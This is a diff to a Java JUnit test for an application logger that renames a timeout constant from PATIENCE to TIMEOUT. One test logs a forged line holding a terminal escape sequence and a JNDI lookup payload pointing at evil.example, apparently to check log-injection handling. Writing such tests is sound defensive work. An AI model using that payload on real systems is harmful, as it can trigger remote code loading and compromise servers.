@@ -21,7 +21,7 @@ import org.junit.jupiter.api.Test;
 /** The way of lines to a logger of the application. */
 class ApplicationLogTest {
 
-  private static final Duration PATIENCE = Duration.ofMinutes(5);
+  private static final Duration TIMEOUT = Duration.ofMinutes(5);
 
   /** Keeps what the application's logging is handed, and on which thread. */
   private static class Keeping extends Handler {
@@ -61,7 +61,7 @@ class ApplicationLogTest {
     }
     logger.setUseParentHandlers(true);
     logger.setLevel(null);
-    bus.close(PATIENCE);
+    bus.close(TIMEOUT);
   }
 
   @Test
@@ -74,7 +74,7 @@ class ApplicationLogTest {
     log.warn("two");
     log.info("three");
     log.debug("four\u001b[2J\nforged ${jndi:ldap://evil.example/x}");
-    bus.close(PATIENCE);
+    bus.close(TIMEOUT);
 
     // then
     assertThat(keeping.records)
@@ -109,7 +109,7 @@ class ApplicationLogTest {
     }
     thread.join();
     log.warn("after");
-    bus.close(PATIENCE);
+    bus.close(TIMEOUT);
 
     // then
     assertThat(others).containsExactly("WARN before");
@@ -122,7 +122,7 @@ class ApplicationLogTest {
     AgentLog log = log(LogDestination.SYSTEM_LOGGER, MainThread.running());
 
     // when
-    bus.close(PATIENCE);
+    bus.close(TIMEOUT);
     log.warn("late");
 
     // then
@@ -138,7 +138,7 @@ class ApplicationLogTest {
     // when
     log.warn("one");
     log.info("two");
-    bus.close(PATIENCE);
+    bus.close(TIMEOUT);
 
     // then
     assertThat(others)
@@ -164,7 +164,7 @@ class ApplicationLogTest {
     // when
     log.warn("one");
     log.warn("two");
-    bus.close(PATIENCE);
+    bus.close(TIMEOUT);
 
     // then
     assertThat(others)
